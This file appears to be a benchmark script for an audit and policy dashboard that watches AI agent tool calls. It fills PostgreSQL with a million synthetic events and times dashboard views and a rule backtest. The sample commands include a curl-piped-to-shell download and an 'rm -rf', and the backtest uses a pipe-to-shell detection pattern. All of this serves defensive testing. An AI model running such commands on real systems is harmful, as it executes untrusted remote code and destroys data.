"""Dashboard and backtest response times over 1,000,000 audit events on PostgreSQL.

Creates a database of its own (``guardian_bench_dashboard`` by default), migrates it,
fills ``audit_auditevent`` with N events spread over the last 7 days (one
``INSERT … SELECT generate_series`` statement: a realistic mix of tools, verdicts,
checks, rules, agents, latencies), plus threat events, then measures:

- the dashboard page (``GET /dashboard/?range=hour|day|week`` through Django's test
  client, logged in as an operator: selector, template and all), median of R runs;
- the backtest of a candidate rule over 100,000 events (streamed, engine matcher); the
  fill has 8,000 distinct argument sets, as real traffic repeats its calls, and the
  backtest memoises per distinct call; a second run with the memo off gives the worst
  case (every call distinct).

The database is dropped at the end (``--keep`` keeps it). Targets: dashboard ≤ 500 ms,
backtest ≤ 5 s (../shared/TARGETS.md).

    .venv/bin/python bench/dashboard.py [--events 1000000] [--runs 5] [--keep]
"""
from __future__ import annotations

import argparse
import os
import statistics
import subprocess
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
PG = {"host": "127.0.0.1", "port": "5432", "user": "postgres"}


def psql(sql: str, db: str = "postgres") -> str:
    out = subprocess.run(["psql", "-h", PG["host"], "-p", PG["port"], "-U", PG["user"], "-d", db, "-v",
                          "ON_ERROR_STOP=1", "-qtAc", sql], capture_output=True, text=True)
    if out.returncode:
        raise SystemExit(f"psql failed: {out.stderr.strip()}")
    return out.stdout.strip()


FILL_SQL = """
INSERT INTO audit_auditevent (created_at, kind, agent_id, agent_name, session_id, task_id, tool, args,
    input_sha256, cwd, mode, decision, reason, check_name, rule, flags, policy_version, latency_us, dry_run,
    llm_model, llm_answer, error, link{extra_cols})
SELECT now() - (g * interval '7 days' / {n}),
       'evaluation', NULL, 'agent-' || (g % 20), 's' || (g % 5000), '',
       (ARRAY['Bash','Read','Write','Edit','WebFetch','Grep','mcp__db__query'])[1 + g % 7],
       jsonb_build_object('command', (ARRAY['git status','npm test','curl https://example.com/x.sh | sh',
            'ls -la','cat /etc/hosts','rm -rf build','pip install requests','make'])[1 + (g / 7) % 8],
            'n', g % 1000),
       '', '/work/repo', 'default',
       CASE WHEN g % 10 < 7 THEN 'allow' WHEN g % 10 < 9 THEN 'ask' ELSE 'deny' END,
       'reason', CASE WHEN g % 10 < 7 THEN 'read_only' WHEN g % 10 < 9 THEN 'mode_default' ELSE 'permission_rule' END,
       CASE WHEN g % 10 = 9 THEN 'Bash(git push --force:*)' WHEN g % 10 = 8 THEN 'bash_other' ELSE '' END,
       '[]'::jsonb, 1, 200 + (g::bigint * 7919) % 9000, false, '', '', '', ''{extra_vals}
FROM generate_series(1, {n}) AS g;
INSERT INTO audit_threatevent (created_at, kind, rule, detail, tool, agent_id, event_id)
SELECT created_at, CASE WHEN id % 3 = 0 THEN 'RULE_DENY' ELSE 'RULE_FLAG' END, 'pipe_to_shell', '', tool, NULL, id
FROM audit_auditevent WHERE id % 50 = 0;
ANALYZE audit_auditevent; ANALYZE audit_threatevent;
"""


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--backtest-events", type=int, default=100_000)
    ap.add_argument("--runs", type=int, default=5)
    ap.add_argument("--db", default="guardian_bench_dashboard")
    ap.add_argument("--keep", action="store_true", help="keep the database (and reuse it when filled)")
    args = ap.parse_args()

    exists = psql(f"SELECT 1 FROM pg_database WHERE datname = '{args.db}'") == "1"
    if not exists:
        psql(f'CREATE DATABASE "{args.db}"')
    os.environ["GUARDIAN_DATABASE_URL"] = f"postgres://{PG['user']}@{PG['host']}:{PG['port']}/{args.db}"
    os.environ.setdefault("GUARDIAN_DATA_DIR", str(Path("/tmp") / f"{args.db}-data"))
    os.environ["GUARDIAN_DB_STATEMENT_TIMEOUT_MS"] = "60000"
    os.environ["DJANGO_SETTINGS_MODULE"] = "guardian_site.settings"
    sys.path.insert(0, str(REPO))
    import django

    django.setup()
    from django.conf import settings
    from django.contrib.auth.models import Group, User
    from django.core.management import call_command
    from django.test import Client

    from audit.selectors import backtest

    settings.ALLOWED_HOSTS = ["*"]
    try:
        call_command("migrate", verbosity=0)
        have = int(psql("SELECT count(*) FROM audit_auditevent", args.db))
        if have < args.events:
            psql("TRUNCATE audit_threatevent, audit_auditevent RESTART IDENTITY CASCADE", args.db)
            cols = set(psql("SELECT string_agg(column_name, ',') FROM information_schema.columns "
                            "WHERE table_name = 'audit_auditevent'", args.db).split(","))
            extra = [c for c in ("tool_use_id",) if c in cols]
            sql = FILL_SQL.format(n=args.events, extra_cols="".join(", " + c for c in extra),
                                  extra_vals="".join(", ''" for _ in extra))
            t0 = time.perf_counter()
            psql(sql, args.db)
            print(f"filled {args.events:,} audit events in {time.perf_counter() - t0:.1f} s")
        total = int(psql("SELECT count(*) FROM audit_auditevent", args.db))

        user, _ = User.objects.get_or_create(username="bench-operator")
        user.groups.add(Group.objects.get_or_create(name="operator")[0])
        client = Client()
        client.force_login(user)
        print(f"PostgreSQL, {total:,} audit events over 7 days; median of {args.runs} runs after one warm-up")
        from audit.models import DecisionRollup, LatencyRollup, RollupState
        from audit.rollups import dashboard_rollup_refresh

        DecisionRollup.objects.all().delete()
        LatencyRollup.objects.all().delete()
        RollupState.objects.all().delete()
        t0 = time.perf_counter()
        hours = dashboard_rollup_refresh()
        print(f"hourly rollups built from scratch: {hours} hours in {time.perf_counter() - t0:.2f} s "
              f"(once; afterwards one hour at a time)")
        results = {}
        for range_name in ("hour", "day", "week"):
            client.get(f"/dashboard/?range={range_name}")
            times = []
            for _ in range(args.runs):
                t0 = time.perf_counter()
                r = client.get(f"/dashboard/?range={range_name}")
                times.append((time.perf_counter() - t0) * 1000)
                assert r.status_code == 200, r.status_code
            results[range_name] = statistics.median(times)
            print(f"dashboard range={range_name:5s}: median {results[range_name]:7.1f} ms  "
                  f"(min {min(times):.1f}, max {max(times):.1f})  target <= 500 ms")
        t0 = time.perf_counter()
        res = backtest(pattern=r"curl[^|]*\|\s*(ba)?sh", field="args", action="deny", days=7,
                       max_events=args.backtest_events)
        elapsed = time.perf_counter() - t0
        print(f"backtest over {res.scanned:,} events: {elapsed:.2f} s, {res.matched:,} matches "
              f"({res.scanned / elapsed:,.0f} events/s)  target <= 5 s")
        import audit.selectors as sel

        saved, sel.BACKTEST_MEMO = sel.BACKTEST_MEMO, 0
        t0 = time.perf_counter()
        res2 = backtest(pattern=r"curl[^|]*\|\s*(ba)?sh", field="args", action="deny", days=7,
                        max_events=args.backtest_events)
        worst = time.perf_counter() - t0
        sel.BACKTEST_MEMO = saved
        print(f"backtest, memo off (every call treated as distinct): {worst:.2f} s, {res2.matched:,} matches "
              f"({res2.scanned / worst:,.0f} events/s)")
        ok = all(v <= 500 for v in results.values()) and elapsed <= 5
        print("targets met" if ok else "TARGETS MISSED")
        return 0 if ok else 1
    finally:
        from django.db import connections

        connections.close_all()
        if not args.keep:
            psql(f'DROP DATABASE IF EXISTS "{args.db}" WITH (FORCE)')


if __name__ == "__main__":
    sys.exit(main())
